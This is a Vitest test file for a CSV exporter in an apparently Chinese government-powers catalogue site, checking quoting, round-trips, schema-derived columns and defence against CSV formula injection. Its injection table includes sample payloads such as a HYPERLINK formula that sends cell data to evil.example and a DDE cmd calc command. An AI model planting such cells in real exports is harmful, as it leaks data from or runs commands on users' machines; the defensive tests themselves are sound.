import { describe, expect, it } from 'vitest';
import { z } from 'astro/zod';
import { label } from '../../schemas/fields.ts';
import { powerSchema } from '../../schemas/powers.ts';
import { jsonSchemaOf } from '../content-check/schema-walk.ts';
import { columnsOf, formatCell, rowOf } from './columns.ts';
import { BOM, parseCsv, toCsv } from './csv.ts';

describe('CSV', () => {
  it('starts with a byte-order mark and round-trips commas, quotes and line breaks', () => {
    const rows = [
      ['RF-XK-001', '审批，含“子项”', '第一行\n第二行'],
      ['RF-CF-001', 'a "quoted" word', ''],
    ];
    const csv = toCsv(['编码', '名称', '备注'], rows);
    expect(csv.startsWith(BOM)).toBe(true);
    // A full-width comma needs no quoting; ASCII quotes are doubled; a line break is kept in quotes.
    expect(csv).toContain(',审批，含“子项”,');
    expect(csv).toContain('"a ""quoted"" word"');
    expect(csv).toContain('"第一行\n第二行"');
    expect(parseCsv(csv)).toEqual([['编码', '名称', '备注'], ...rows]);
  });
  it('quotes a cell with an ASCII comma', () => {
    expect(toCsv(['a'], [['x,y']])).toBe(`${BOM}a\r\n"x,y"`);
  });
});

describe('CSV cells a spreadsheet could run (OWASP CSV injection)', () => {
  // [cell as in the data, cell as a spreadsheet reads it from the CSV]
  const table: [string, string][] = [
    ['=HYPERLINK("https://evil.example/?x="&A1,"点击")', `'=HYPERLINK("https://evil.example/?x="&A1,"点击")`],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"],
    ['\u3000=1+1', "'\u3000=1+1"],
    ['＝HYPERLINK("https://evil.example")', `'＝HYPERLINK("https://evil.example")`],
    ['＋1＋1', "'＋1＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['+86 138 0000 0000', "'+86 138 0000 0000"],
    ['-', "'-"],
    ['-500\n=1+1', "'-500\n=1+1"],
    // Plain numbers and negative amounts stay numbers.
    ['-500', '-500'],
    ['+86', '+86'],
    ['3.5', '3.5'],
    ['-0.25', '-0.25'],
    ['-1,000.50', '-1,000.50'],
    ['1e-5', '1e-5'],
    ['500', '500'],
    // Text that merely contains the characters later on is left alone.
    ['罚款 -500 元', '罚款 -500 元'],
    ['a=b', 'a=b'],
    ['test@example.gov.cn', 'test@example.gov.cn'],
    ['示防罚决〔2025〕1号', '示防罚决〔2025〕1号'],
    ['', ''],
  ];
  it.each(table)('%j is written as %j', (cell, read) => {
    expect(parseCsv(toCsv(['编码', '备注'], [['X-1', cell]]))).toEqual([['编码', '备注'], ['X-1', read]]);
  });
  it('neutralises a header cell too and quotes every prefixed cell', () => {
    expect(toCsv(['=x', '编码'], [['-500', '@x']])).toBe(`${BOM}"'=x",编码\r\n-500,"'@x"`);
  });
});

describe('columns from a schema', () => {
  const schema = z.object({
    code: label(z.string(), '编码'),
    fee: label(z.object({ charged: label(z.boolean(), '是否收费'), standard: label(z.string(), '收费标准').optional() }), '收费'),
    basis: label(z.array(z.object({ law: label(z.string(), '法律'), article: label(z.string(), '条款') })), '依据'),
    tags: label(z.array(z.string()), '标签').optional(),
  });

  it('flattens groups into their own columns and keeps lists in one cell', () => {
    const columns = columnsOf(jsonSchemaOf(schema));
    expect(columns.map((c) => [c.key, c.label, c.type])).toEqual([
      ['code', '编码', '文本'],
      ['fee.charged', '收费·是否收费', '是/否'],
      ['fee.standard', '收费·收费标准', '文本'],
      ['basis', '依据', '列表'],
      ['tags', '标签', '列表'],
    ]);
    const row = rowOf(columns, { code: 'X-1', fee: { charged: true }, basis: [{ law: '《人民防空法》', article: '第二十二条' }, { law: '《行政许可法》', article: '第三十条' }] });
    expect(row).toEqual(['X-1', '是', '', '《人民防空法》 第二十二条；《行政许可法》 第三十条', '']);
  });

  it('covers every top-level field of a real schema', () => {
    const keys = columnsOf(jsonSchemaOf(powerSchema)).map((c) => c.key.split('.')[0]);
    for (const field of Object.keys(powerSchema.shape)) expect(keys).toContain(field);
  });

  it('formats empty values as empty cells', () => {
    expect(formatCell(undefined)).toBe('');
    expect(formatCell(false)).toBe('否');
  });
});
